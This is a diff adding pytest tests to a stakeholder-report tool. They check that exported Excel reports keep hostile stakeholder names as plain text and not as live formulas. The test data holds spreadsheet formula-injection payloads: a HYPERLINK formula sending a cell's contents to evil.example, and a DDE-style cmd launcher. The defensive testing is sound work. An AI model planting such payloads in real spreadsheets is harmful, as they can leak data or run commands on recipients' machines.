@@ -127,3 +127,54 @@ def test_collect_accepts_parsed_json():
 def test_strip_kept():
     nb = strip_kept(_nb_with_kept())
     assert [o["output_type"] for o in nb["cells"][0]["outputs"]] == ["stream"]
+
+
+def test_filtered_row_numbers_are_dropped():
+    # critical_group() keeps the stakeholders' row numbers (3, 58, ...): not a column for a reader
+    df = pd.DataFrame({"id": ["SE2030", "BID", "ANUIES"]}, index=[3, 58, 22])
+    assert table_rows(df.to_json(orient="split")) == (["id"], [["SE2030"], ["BID"], ["ANUIES"]])
+
+
+def _renamed_sample(tmp_path, names: dict) -> "Path":
+    """A copy of the bundled sample with some stakeholders renamed ({id: new name})."""
+    from partnerlab import paths
+
+    if not paths.SAMPLE_WORKBOOK.exists():
+        pytest.skip(f"needs the bundled sample {paths.SAMPLE_WORKBOOK.relative_to(paths.ROOT)}")
+    book = openpyxl.load_workbook(paths.SAMPLE_WORKBOOK)
+    sheet = book["stakeholders"]
+    header = [c.value for c in sheet[1]]
+    id_col, name_col = header.index("id") + 1, header.index("name") + 1
+    found = set()
+    for r in range(2, sheet.max_row + 1):
+        sid = sheet.cell(row=r, column=id_col).value
+        if sid in names:
+            cell = sheet.cell(row=r, column=name_col)
+            cell.value = names[sid]
+            cell.data_type = "s"  # typed text, as Excel stores '=HYPERLINK(...) (not a formula)
+            found.add(sid)
+    assert found == set(names), "the sample no longer has these stakeholders"
+    path = tmp_path / "renamed.xlsx"
+    book.save(path)
+    return path
+
+
+@pytest.mark.slow
+def test_formula_names_from_a_real_report_stay_text(tmp_path):
+    # SE2030 (influence 5, interest 5) heads the critical group the stakeholder map keeps
+    from partnerlab import batch
+    from partnerlab.reports import default_batch
+    from partnerlab.workbook import load_workbook
+
+    hostile = {"SE2030": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "BID": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    path = _renamed_sample(tmp_path, hostile)
+    jobs = [j for j in default_batch(load_workbook(path)) if j.name == "stakeholder_map"]
+    result = batch.run_batch(path, tmp_path / "out", job_list=jobs, jobs=1, progress=False)
+    assert result.exit_code == 0, result.reports
+    out = result.out / "findings.xlsx"
+    sheet = openpyxl.load_workbook(out)["critical_group"]
+    names = {row[1].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for text in hostile.values():
+        assert names[text].data_type == "s" and names[text].quotePrefix
+    with zipfile.ZipFile(out) as z:
+        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
